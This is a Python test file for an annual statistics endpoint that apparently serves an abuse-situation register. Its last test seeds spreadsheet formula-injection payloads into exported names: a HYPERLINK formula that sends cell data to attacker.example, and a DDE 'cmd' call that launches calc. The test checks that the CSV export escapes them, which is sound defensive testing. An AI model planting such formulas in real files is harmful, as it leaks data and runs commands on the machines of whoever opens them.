"""GET /api/v1/statistics/annual/{year}: every figure, counted by hand from the stories in
conftest.py (16 situations opened in 2025, 4 in 2024)."""

import csv
import io
from typing import Any

import httpx
import pytest

from tests.factories import World, situation_body
from tests.helpers import assert_problem

URL = "/api/v1/statistics/annual"


def by(items: list[dict[str, Any]], key: str) -> dict[str, dict[str, Any]]:
    return {item[key]: item for item in items}


def values(items: list[dict[str, Any]], key: str) -> dict[str, int]:
    return {k: v["value"] for k, v in by(items, key).items() if v["value"]}


@pytest.mark.usefixtures("two_years")
async def test_every_figure(client: httpx.AsyncClient, world: World) -> None:
    response = await client.get(f"{URL}/2025", headers=world.reporter.headers)
    assert response.status_code == 200, response.text
    stats = response.json()
    assert (stats["year"], stats["source"], stats["organisation"]) == (2025, "records", None)
    assert stats["comparison"] == {"year": 2024, "source": "records"}

    assert stats["situations"] == {
        "value": 16,
        "previous": 4,
        "change_pct": 300.0,
        "suppressed": False,
        "previous_suppressed": False,
    }
    assert [f["code"] for f in stats["intake"]] == [f"M{n}" for n in range(1, 25)]
    assert values(stats["intake"], "code") == {
        "M1": 7,
        "M2": 3,
        "M4": 1,
        "M16": 1,
        "M19": 1,
        "M21": 3,
    }
    assert values(stats["closure"], "code") == {
        "M1": 3,
        "M2": 2,
        "M4": 1,
        "M16": 1,
        "M21": 4,
        "M22": 2,
    }
    assert stats["without_closure_typology"]["value"] == 3
    assert sum(f["value"] for f in stats["closure"]) + 3 == 16

    intake, closure = by(stats["intake"], "code"), by(stats["closure"], "code")
    assert (intake["M1"]["previous"], intake["M1"]["change_pct"]) == (2, 250.0)
    assert (intake["M4"]["previous"], intake["M4"]["change_pct"]) == (0, None)
    assert (closure["M21"]["previous"], closure["M21"]["change_pct"]) == (1, 300.0)
    assert intake["M1"]["label"] == "Acte abusif exercé par un professionnel vers un bénéficiaire"

    assert (stats["requalified"]["value"], stats["requalified"]["previous"]) == (4, 1)
    pairs = {
        (r["from_code"], r["to_code"]): (r["value"], r["previous"])
        for r in stats["requalifications"]
    }
    assert pairs == {("M1", "M21"): (2, 1), ("M1", "M22"): (1, 0), ("M21", "M22"): (1, 0)}

    groups = by(stats["groups"], "code")
    expected_groups = {
        # code: (intake, intake share, closure, closure share)
        "sexualised": (4, 25.0, 3, 18.8),
        "questionings": (3, 18.8, 6, 37.5),
        "professional_to_beneficiary": (11, 68.8, 5, 31.3),
        "between_beneficiaries": (0, 0.0, 0, 0.0),
        "violence_to_professionals": (1, 6.3, 1, 6.3),
        "neglect": (1, 6.3, 0, 0.0),
    }
    for code, (n_in, share_in, n_out, share_out) in expected_groups.items():
        group = groups[code]
        assert (group["intake"]["value"], group["intake"]["share_pct"]) == (n_in, share_in), code
        assert (group["closure"]["value"], group["closure"]["share_pct"]) == (n_out, share_out), (
            code
        )
    sexualised = groups["sexualised"]["intake"]
    assert (sexualised["previous"], sexualised["change_pct"], sexualised["previous_share_pct"]) == (
        1,
        300.0,
        25.0,
    )
    questionings = groups["questionings"]["intake"]
    assert (questionings["previous"], questionings["change_pct"]) == (1, 200.0)

    assert values(stats["organisations"], "organisation") == {"MRE": 15, "HSO": 1}
    assert values(stats["severity_at_year_end"], "severity") == {"green": 5, "orange": 7, "red": 4}
    assert values(stats["highest_severity"], "severity") == {"green": 4, "orange": 7, "red": 5}
    assert values(stats["reports"], "status") == {
        "reported": 2,
        "decided_not_to_report": 1,
        "red_without_report": 1,
        "none": 12,
    }
    reports = by(stats["reports"], "status")
    assert (reports["reported"]["previous"], reports["reported"]["change_pct"]) == (1, 100.0)
    assert values(stats["reports_by_authority"], "authority") == {"parquet": 2, "police": 1}


@pytest.mark.usefixtures("two_years")
async def test_year_end_state_is_reproducible(client: httpx.AsyncClient, world: World) -> None:
    """Changes made after 31 December do not change that year's figures."""
    before = (await client.get(f"{URL}/2025", headers=world.reporter.headers)).json()
    situations = (
        await client.get(
            "/api/v1/situations",
            params={"status": "open", "severity": "red"},
            headers=world.delegate.headers,
        )
    ).json()["items"]
    (red_open,) = [s for s in situations if s["opened_on"] == "2025-06-01"]
    await client.post(
        f"/api/v1/situations/{red_open['id']}/reports",
        json={"decision": "reported", "authority": "police", "decided_on": "2026-02-01"},
        headers=world.delegate.headers,
    )
    after = (await client.get(f"{URL}/2025", headers=world.reporter.headers)).json()
    assert after == before


@pytest.mark.usefixtures("two_years")
async def test_coordinator_gets_own_organisation(client: httpx.AsyncClient, world: World) -> None:
    stats = (await client.get(f"{URL}/2025", headers=world.coordinator_a.headers)).json()
    assert stats["organisation"] == "MRE"
    assert (stats["situations"]["value"], stats["situations"]["previous"]) == (15, 4)
    assert stats["situations"]["change_pct"] == 275.0
    assert values(stats["organisations"], "organisation") == {"MRE": 15}
    other = await client.get(
        f"{URL}/2025", params={"organisation": "HSO"}, headers=world.coordinator_a.headers
    )
    assert_problem(other, 404)
    intranet = (await client.get(f"{URL}/2025", headers=world.intranet_a.headers)).json()
    assert intranet["situations"]["value"] == 15


@pytest.mark.usefixtures("two_years")
async def test_one_organisation_for_network_roles(client: httpx.AsyncClient, world: World) -> None:
    stats = (
        await client.get(
            f"{URL}/2025", params={"organisation": "hso"}, headers=world.delegate.headers
        )
    ).json()
    assert (stats["organisation"], stats["situations"]["value"]) == ("HSO", 1)
    assert stats["comparison"]["source"] == "none"
    assert stats["situations"]["previous"] is None


async def test_unknown_comparison_year(client: httpx.AsyncClient, world: World) -> None:
    stats = (await client.get(f"{URL}/2025", headers=world.reporter.headers)).json()
    assert stats["situations"] == {
        "value": 0,
        "previous": None,
        "change_pct": None,
        "suppressed": False,
        "previous_suppressed": False,
    }
    assert stats["comparison"]["source"] == "none"


@pytest.mark.usefixtures("two_years")
async def test_csv(client: httpx.AsyncClient, world: World) -> None:
    for kwargs in ({"params": {"format": "csv"}}, {"headers": {"Accept": "text/csv"}}):
        headers = {**world.reporter.headers, **kwargs.get("headers", {})}
        response = await client.get(f"{URL}/2025", params=kwargs.get("params"), headers=headers)
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(response.text)))
        first = rows[0]
        assert (first["section"], first["2025"], first["2024"], first["change_pct"]) == (
            "situations",
            "16",
            "4",
            "300.0",
        )
        m1 = next(r for r in rows if r["section"] == "intake" and r["code"] == "M1")
        assert (m1["2025"], m1["2024"], m1["change_pct"]) == ("7", "2", "250.0")
        sexualised = next(
            r for r in rows if r["section"] == "group_intake" and r["code"] == "sexualised"
        )
        assert (sexualised["2025"], sexualised["share_pct_2025"]) == ("4", "25.0")
    json_preferred = await client.get(
        f"{URL}/2025",
        headers={**world.reporter.headers, "Accept": "text/csv;q=0.5, application/json"},
    )
    assert json_preferred.headers["content-type"].startswith("application/json")


@pytest.mark.usefixtures("two_years")
async def test_suppression(client: httpx.AsyncClient, world: World) -> None:
    threshold = 3
    stats = (
        await client.get(
            f"{URL}/2025", params={"suppress_below": threshold}, headers=world.reporter.headers
        )
    ).json()
    figures: list[dict[str, Any]] = [
        stats["situations"],
        stats["without_closure_typology"],
        stats["requalified"],
        *stats["intake"],
        *stats["closure"],
        *stats["requalifications"],
        *stats["organisations"],
        *stats["severity_at_year_end"],
        *stats["highest_severity"],
        *stats["reports"],
        *stats["reports_by_authority"],
        *(g[stage] for g in stats["groups"] for stage in ("intake", "closure")),
    ]
    for figure in figures:
        for value in (figure["value"], figure["previous"]):
            assert value is None or value == 0 or value >= threshold, figure
        if figure["suppressed"]:
            assert figure["value"] is None
            assert figure["change_pct"] is None
    # A distribution whose total is shown never hides exactly one cell.
    for distribution in ("intake", "severity_at_year_end", "highest_severity", "reports"):
        hidden = [f for f in stats[distribution] if f["suppressed"]]
        assert len(hidden) != 1, distribution
    # The 2024 year: 4 situations, every cell under 3 hidden; the network's total, the annual
    # report's headline, stays shown (tests/statistics/test_attacker.py checks that nothing
    # hidden can be worked out, from all the tables together).
    assert stats["situations"]["previous"] == 4
    assert by(stats["intake"], "code")["M1"]["previous"] is None
    assert stats["situations"]["value"] == 16
    csv_text = (
        await client.get(
            f"{URL}/2025",
            params={"suppress_below": threshold, "format": "csv"},
            headers=world.reporter.headers,
        )
    ).text
    assert "<3" in csv_text


async def test_wrong_role_and_bad_input(client: httpx.AsyncClient, world: World) -> None:
    assert_problem(await client.get(f"{URL}/2025"), 401)
    assert_problem(
        await client.get(f"{URL}/1800", headers=world.reporter.headers), 422, field="year"
    )
    bad = await client.get(
        f"{URL}/2025", params={"suppress_below": 0}, headers=world.reporter.headers
    )
    assert_problem(bad, 422, field="suppress_below")


async def test_no_cell_of_the_csv_runs_as_a_formula(
    client: httpx.AsyncClient, world: World
) -> None:
    """Names typed into the register come back as text, whatever a spreadsheet makes of them."""
    hostile = {
        "organisation": '=HYPERLINK("http://attacker.example/?d="&A1,"open")',
        "authority": "@SUM(1+1)*cmd|' /C calc'!A0",
        "tab": "\t=1+2",
        "carriage return": "\r=1+2",
        "plus": "+33 1 23 45 67 89",
        "minus": "-2+3",
    }
    created = await client.post(
        "/api/v1/organisations",
        json={"code": "evil", "name": hostile["organisation"]},
        headers=world.admin.headers,
    )
    assert created.status_code == 201, created.text
    added = await client.post(
        "/api/v1/reference/authorities",
        json={
            "code": "evil",
            **{f"label_{lang}": hostile["authority"] for lang in ["fr", "en", "de"]},
        },
        headers=world.admin.headers,
    )
    assert added.status_code == 201, added.text
    for name in ("tab", "carriage return", "plus", "minus"):
        code = f"x{len(name)}{name[0]}"
        named = await client.post(
            "/api/v1/organisations",
            json={"code": code, "name": hostile[name]},
            headers=world.admin.headers,
        )
        assert named.status_code == 201, (name, named.text)
        situation = await client.post(
            "/api/v1/situations",
            json=situation_body(organisation=code),
            headers=world.delegate.headers,
        )
        assert situation.status_code == 201, situation.text
    situation = await client.post(
        "/api/v1/situations",
        json=situation_body(organisation="EVIL", severity="red"),
        headers=world.delegate.headers,
    )
    reported = await client.post(
        f"/api/v1/situations/{situation.json()['id']}/reports",
        json={"decision": "reported", "authority": "evil", "decided_on": "2026-03-20"},
        headers=world.delegate.headers,
    )
    assert reported.status_code == 201, reported.text
    response = await client.get(
        f"{URL}/2026", params={"format": "csv"}, headers=world.reporter.headers
    )
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell.replace(".", "").lstrip("-").isdigit(), cell
    for text in hostile.values():  # names may have been stripped of blanks when entered
        assert f"'{text}" in cells or f"'{text.strip()}" in cells, text
